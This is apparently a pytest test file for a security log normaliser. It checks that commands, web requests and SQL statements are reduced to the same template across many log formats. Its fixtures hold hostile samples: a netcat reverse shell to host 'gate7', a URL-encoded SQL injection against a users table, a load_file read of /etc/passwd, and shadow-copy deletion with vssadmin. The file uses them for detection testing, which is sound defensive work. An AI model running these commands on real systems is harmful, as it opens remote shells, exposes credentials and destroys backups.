"""A command or a request in the log of an application that nobody knows reads to the models as in the best-known form."""
import json

import pytest

from aiscore_contract.event import Event
from aiscore_model.normalise import normalise

COMMAND = "nc -e /bin/sh gate7 4444"
ATTACK = "/product?id=3%27%20UNION%20SELECT%20password%20FROM%20users--"
STATEMENT = "SELECT load_file('/etc/passwd') FROM a WHERE x='1'"
WORDS = "path product query id num quote union select password from users comment"
EVENTS = {
    "an object": json.dumps({"user": "ann", "cmdline": COMMAND}), "words one by one": json.dumps({"proc": {"argv": ["nc", "-e", "/bin/sh", "gate7", "4444"]}}),
    "an act beside it": json.dumps({"event": "exec", "user": "ann", "cmd": COMMAND}), "a pair": f'2026-11-27T10:00:00Z pc7 exec user=ann cmd="{COMMAND}"',
    "a pair behind a header": f'Nov 27 10:11:12 pc7 runner[33]: exec user=ann cmd="{COMMAND}"', "said": f"2026-11-27 10:00:00 INFO worker - Executing command: {COMMAND}",
    "a name that ends so": json.dumps({"processDetails": {"processCmd": COMMAND, "processUser": "ann"}}), "keystrokes": json.dumps({"user": "ann", "keystrokes": COMMAND}),
    "an attribute with its type": json.dumps({"attributes": [{"key": "process.command_line", "value": {"stringValue": COMMAND}}, {"key": "user", "value": {"stringValue": "ann"}}]}),
    "an object as a text on a bus": json.dumps({"topic": "edr", "key": "a", "value": json.dumps({"cmdline": COMMAND})}), "cells": f"2026-11-27 10:11:12|PC7|ann|{COMMAND}|0",
    "a shell's trace": f"[2026-11-27T10:11:12.345Z] + {COMMAND}", "a prompt in colours": f"\x1b[32;1m$ {COMMAND}\x1b[0;m", "a hook of a prompt": f"Nov 27 10:11:12 db1 root: [ann@192.0.2.9]: /srv: {COMMAND}",
    "pairs": f'time=2026-11-27T10:00:00Z level=info proc="runner" argv="{COMMAND}" user=ann', "XML": f"<event><time>1</time><user>ann</user><stepCmd>{COMMAND}</stepCmd></event>",
    "an object behind a head": f'2026-11-27 10:00:00 INFO acme.Runner - event {json.dumps({"user": "ann", "stepCmd": COMMAND})}', "no host": f"2026-11-27T10:00:00Z Running command: {COMMAND}", "no program": f"2026-11-27T10:00:00Z command: {COMMAND}",
    "quotes in a sentence": f"2026-11-27 10:11:12 [salt.cmdmod][INFO] Executing command '{COMMAND}' in directory '/root'", "brackets": f"2026-11-27 10:11:12 INFO Executing shell command [{COMMAND}]",
}


def read(text):
    return normalise(Event(text=text))


@pytest.mark.parametrize("form", EVENTS)
def test_a_command_says_the_same_words_in_all_forms(form):
    words, found = read(COMMAND).template, read(EVENTS[form])
    assert words in found.template
    assert COMMAND in found.focus
    assert form in ("an act beside it", "a prompt in colours") or dict(found.entities)["process"] == "nc"


@pytest.mark.parametrize("text", [
    json.dumps({"url": ATTACK, "status": 200, "ip": "192.0.2.7"}), json.dumps({"level": "info", "msg": f"GET {ATTACK} 200", "ip": "192.0.2.7"}),
    json.dumps({"caller_ip": "192.0.2.7", "http_verb": "GET", "endpoint": ATTACK, "response_code": 200}), f"2026-11-27T10:11:12Z|192.0.2.7|GET|{ATTACK}|200|12",
    f"time=2026-11-27T10:00:00Z path={ATTACK} status=200 ip=192.0.2.7", f'level=info src=192.0.2.7 verb=GET url="{ATTACK}" status=200 bytes=7', f"<a><client>192.0.2.7</client><method>GET</method><uri>{ATTACK}</uri><status>200</status></a>",
    f'[2026-11-27 10:00:00] INFO gate: {json.dumps({"url": ATTACK, "status": 200, "ip": "192.0.2.7"})}', f'[2026-11-27 10:00:00] INFO 192.0.2.7 "GET {ATTACK}" 200 12ms', f"Nov 27 10:11:12 web7 shop[33]: 192.0.2.7 GET {ATTACK} 200 in 12 ms",
])
def test_a_request_says_the_same_words_in_all_forms(text):
    found = read(text)
    assert WORDS in found.template and "success" in found.template
    assert found.kind == "web" and dict(found.entities)["src"] == "192.0.2.7"


@pytest.mark.parametrize("text", [
    f'time=1 user=ann db=shop sql="{STATEMENT}" rows=1', f"<log><time>1</time><db>shop</db><sql>{STATEMENT}</sql></log>", f"2026-11-27T10:11:12Z Executing SQL: {STATEMENT}", f"2026-11-27 10:11:12;db1;ann;{STATEMENT};0",
    f"Nov 27 10:11:12 app1 shop[7]: duration: 3.281 ms  statement: {STATEMENT}", json.dumps({"msg": f"query took 12 ms: {STATEMENT}"}), f"(0.012) {STATEMENT} AND b='2' AND c='3'",
])
def test_a_statement_says_the_same_words_in_all_forms(text):
    found = read(text)
    assert "statement select load file etc passwd from a where x num" in found.template
    assert any(STATEMENT in part for part in found.focus)


@pytest.mark.parametrize("text", [
    f'level=warn msg="login failed" user="x cmd={COMMAND}" src=192.0.2.7', f"2026-11-27 10:11:12 INFO search - ann searched: {COMMAND}", f"<a><time>1</time><subject>{COMMAND}</subject><from>ann</from></a>", "time=1 level=info command=refresh user=ann",
    "time=1 query=cats user=ann page=7", f'2026-11-27 10:00:00 INFO login failed for user {json.dumps({"cmdline": COMMAND})}', f'name="x {json.dumps({"cmdline": COMMAND})}',
])
def test_what_somebody_gave_says_no_command(text):
    found = read(text)
    assert found.action != "command" and found.kind != "web" and COMMAND not in found.focus


@pytest.mark.parametrize("before, end", [
    ("ann@db7:~$ nc -e /bin/sh gate7 4444 #", '{"cmd":"ls -la"}'), ("ann@db7:~$ nc -e /bin/sh gate7 4444 #", '"GET /a HTTP/1.1" 200'), (f"2026-11-27 10:11:12 INFO jobs ran command: {COMMAND}", '"GET /a HTTP/1.1" 200'), (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'x {"cmd":"ls -la"}'),
    (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'cmd: "ls -la /home"'), ("2026-11-27 10:11:12 INFO query: SELECT load_file('/etc/passwd') FROM a", '{"cmd":"ls -la"}'),
])
def test_an_object_or_a_pair_at_the_end_of_a_line_is_not_what_happened(before, end):
    assert read(f"{before} {end}").template.startswith(read(before).template[:24])


@pytest.mark.parametrize("behind", [f'"GET {ATTACK} HTTP/1.1" 200', f'"GET {ATTACK} HTTP/1.1" user=ann ip=192.0.2.7 rows=1'])
def test_words_that_tell_a_command_hide_no_request_behind_them(behind):
    found = read(f"INFO command queued for ann: ls -la {behind}")
    assert found.template.startswith("command ls la") and WORDS in found.template and found.action == "command"


@pytest.mark.parametrize("behind", ["SRC=gate7 DST=db1 PROTO=TCP IN=eth0", "client 192.0.2.7#123 (a.example.com): query: a.example.com IN A +"])
def test_what_a_command_ends_with_makes_no_other_log_of_the_line(behind):
    found = read(f"INFO command queued for ann: {COMMAND} # {behind}")
    assert found.template.startswith(read(COMMAND).template) and found.kind == "text"


@pytest.mark.parametrize("line", [
    'time=1 method=GET path="/a" status=200 agent="sqlmap/1.7" ip=192.0.2.7', 'Mar  1 10:11:12 web1 app[7]: method=GET path="/a" status=200 agent="sqlmap/1.7" ip=192.0.2.7',
])
def test_who_asked_is_known_by_the_names_that_pairs_have_for_it(line):
    assert "agent attack tool sqlmap" in read(line).template


def test_pairs_keep_what_happened_and_the_body_beside_a_page():
    assert read('time=1 level=error msg="Login failed" user="x" cmd="login" src=192.0.2.7 path=/login').action == "login failed"
    assert "body id num quote union select" in read('method=POST path="/login" status=200 body="id=1\' union select 1,2--" ip=192.0.2.7').template


def test_a_device_that_names_both_ends_tells_more_than_a_request():
    found = read("time=1 url=http://shop.example/a status=200 srcip=192.0.2.7 dstip=198.51.100.7")
    assert found.kind == "keyvalue" and "from" in found.template


def test_what_is_said_beside_a_request_is_read_behind_it():
    found = read('Nov 27 10:11:12 pc7 dockerd[5]: time="x" level=error msg="Handler for POST /v1.43/containers/shop/exec returned error: Container is not running"')
    assert found.template.index("containers shop exec") < found.template.index("returned error") < found.template.index("is not running")


def test_who_ran_a_command_and_where_is_known_beside_it():
    found = read(json.dumps({"user": "ann", "service": "runner", "cmdline": COMMAND, "duration": 7}))
    assert {("user", "ann"), ("service", "runner")} <= set(found.entities)


def test_of_several_commands_none_is_lost():
    found = read(json.dumps({"process_cmdline": "powershell.exe -nop", "childproc_cmdline": "cmd.exe /c whoami", "user": "ann"}))
    assert "powershell" in found.template and "whoami" in found.template


def test_an_act_that_an_object_names_stays_what_happened():
    assert read(json.dumps({"action": "policy.updated", "actor": "ann", "url": ATTACK, "ip": "192.0.2.7"})).action == "policy updated"


def test_what_falcon_saw_is_read_inside_of_a_collectors_member():
    row = {"event_simpleName": "ProcessRollup2", "ImageFileName": r"\Device\HarddiskVolume2\Windows\System32\vssadmin.exe", "CommandLine": "vssadmin delete shadows", "UserName": "ann"}
    assert read(json.dumps({"aid": "x", "event": row})).template == read(json.dumps(row)).template


def test_an_event_that_a_shipper_keeps_as_text_is_read_as_itself():
    told = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin delete shadows /all", "ParentImage": "C:\\Windows\\explorer.exe", "User": "ann"}
    alone, carried = (read(text) for text in (json.dumps(told), json.dumps({"@timestamp": "2031-03-01T10:11:12Z", "message": json.dumps(told), "host": {"name": "c"}})))
    assert (alone.kind, alone.template) == (carried.kind, carried.template) and alone.kind == "windows"


@pytest.mark.parametrize("one, other", [(COMMAND, "ls"), ("ls", COMMAND)])
@pytest.mark.parametrize("form", ["<Data Name=\"CommandLine\">{}</Data><Data Name=\"CommandLine\">{}</Data>", "<CommandLine>{}</CommandLine><Data Name=\"CommandLine\">{}</Data>"])
def test_two_elements_of_one_name_are_two_commands(form, one, other):
    found = read(f"<Event>{form.format(one, other)}<Data Name=\"User\">ann</Data></Event>")
    assert found.focus == (f"{one}\n{other}",)
    assert dict(found.entities)["process"] in ("nc", "ls")


@pytest.mark.parametrize("text", [
    f"2031-03-01 10:11:12;192.0.2.7;GET;shop;{ATTACK};ok;200", f"2031-03-01 10:11:12|{ATTACK}|shop|GET|200|192.0.2.7", f"ip=192.0.2.7 GET={ATTACK} status=200 ms=12",
])
def test_cells_apart_and_a_method_for_a_name_say_a_request(text):
    found = read(text)
    assert WORDS in found.template and found.kind == "web" and dict(found.entities)["src"] == "192.0.2.7"


@pytest.mark.parametrize("text", [f"2031-03-01 10:11:12 [PC7]: PS C:\\jobs> {COMMAND}", f'"{COMMAND}",PC7,ann,0', f"time=1 user=ann command-line={COMMAND} code=0"])
def test_a_remote_prompt_a_first_cell_and_a_name_with_a_dash_say_a_command(text):
    assert read(COMMAND).template in read(text).template and COMMAND in read(text).focus
